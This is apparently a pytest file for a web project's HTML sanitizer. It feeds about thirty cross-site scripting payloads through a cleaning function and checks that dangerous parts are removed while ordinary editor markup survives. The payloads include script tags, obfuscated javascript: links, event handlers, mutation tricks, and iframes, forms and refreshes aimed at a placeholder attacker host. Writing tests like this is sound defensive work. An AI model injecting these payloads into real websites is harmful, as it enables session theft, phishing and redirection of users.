"""The payload corpus, checked against the cleaner itself; test_admin.py and the pages tests
send the same corpus through the admin and model saves."""

import pytest

from guidebook.core.sanitize import clean_rich_text

# (payload, text that must not survive)
PAYLOADS = [
    ("<script>window.__xss = 1</script>", "<script"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil"),
    ('<img src="/media/x.jpg" onerror="window.__xss=1">', "onerror"),
    ('<a href="javascript:window.__xss=1">click</a>', "javascript"),
    ('<a href="JaVaScRiPt:window.__xss=1">click</a>', "aScRiPt"),
    ('<a href="&#106;avascript:window.__xss=1">click</a>', "avascript"),
    ('<a href="java&#x09;script:window.__xss=1">click</a>', "script:"),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "data:"),
    ('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', "data:"),
    ('<svg onload="window.__xss=1"><circle r="5"/></svg>', "svg"),
    ("<svg><script>window.__xss=1</script></svg>", "__xss"),
    ('<iframe src="https://evil.example/"></iframe>', "iframe"),
    ('<iframe srcdoc="<script>window.__xss=1</script>"></iframe>', "__xss"),
    ("<style>body { display: none }</style>", "display"),
    ('<p style="position: fixed; top: 0">cover</p>', "position"),
    ('<div style="background:url(javascript:alert(1))">x</div>', "javascript"),
    ('<img src="https://evil.example/pixel.gif">', "evil.example"),
    ('<img src="//evil.example/pixel.gif">', "evil.example"),
    ('<img src="/media/../accounts/logout/">', ".."),
    ("<scr<script>ipt>window.__xss=1</scr</script>ipt>", "<script"),
    ('<object data="x.swf"></object><embed src="x.swf">', "swf"),
    ('<form action="https://evil.example"><input name="password"></form>', "<form"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "onerror"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "onerror"),
    ('<a href="/guides/" onmouseover="window.__xss=1">hover</a>', "onmouseover"),
    ("<!--<img src=x onerror=alert(1)>-->", "onerror"),
    ('<p><base href="https://evil.example/"></p>', "<base"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "refresh"),
    ('<td background="javascript:alert(1)">', "javascript"),
]
PAYLOAD_IDS = [str(n) for n in range(len(PAYLOADS))]


@pytest.mark.parametrize(("payload", "forbidden"), PAYLOADS, ids=PAYLOAD_IDS)
def test_payload_is_neutralised(payload, forbidden):
    cleaned = clean_rich_text(payload)
    assert forbidden.lower() not in cleaned.lower()
    assert "on" + "error" not in cleaned and "<script" not in cleaned.lower()


def test_what_the_editor_writes_is_kept():
    html = (
        '<h2>Title</h2><p style="text-align: center;">A <strong>b</strong> <em>c</em> '
        "<u>u</u> <s>s</s></p><ul><li>one</li></ul><ol><li>two</li></ol>"
        "<blockquote><p>q</p><p><cite>Someone</cite></p></blockquote><pre><code>x = 1</code></pre>"
        '<figure><img src="/images/media/originals/ab/x.jpg" alt="x"><figcaption>c</figcaption>'
        '</figure><table><thead><tr><th scope="col">h</th></tr></thead><tbody><tr>'
        '<td colspan="2">d</td></tr></tbody></table>'
    )
    cleaned = clean_rich_text(html)
    for kept in [
        "<h2>",
        "text-align:center",
        "<strong>",
        "<em>",
        "<u>",
        "<s>",
        "<ul>",
        "<ol>",
        "<blockquote><p>q</p><p><cite>Someone</cite></p></blockquote>",
        "<pre><code>",
        "<figure>",
        '<img src="/images/media/originals/ab/x.jpg"',
        "<figcaption>",
        '<th scope="col">',
        '<td colspan="2">',
    ]:
        assert kept in cleaned, kept


def test_links_get_rel_noopener_noreferrer_and_keep_safe_schemes():
    cleaned = clean_rich_text('<a href="https://example.org/">x</a><a href="mailto:a@b.c">m</a>')
    assert cleaned.count('rel="noopener noreferrer"') == 2
    assert 'href="https://example.org/"' in cleaned and 'href="mailto:a@b.c"' in cleaned


def test_own_images_through_the_images_app_are_kept():
    assert 'src="/images/media/renditions/ab/x/400w.jpeg"' in clean_rich_text(
        '<img src="/images/media/renditions/ab/x/400w.jpeg">'
    )


def test_text_that_looks_like_html_stays_escaped():
    assert (
        clean_rich_text("&lt;script&gt;alert(1)&lt;/script&gt;")
        == "&lt;script&gt;alert(1)&lt;/script&gt;"
    )
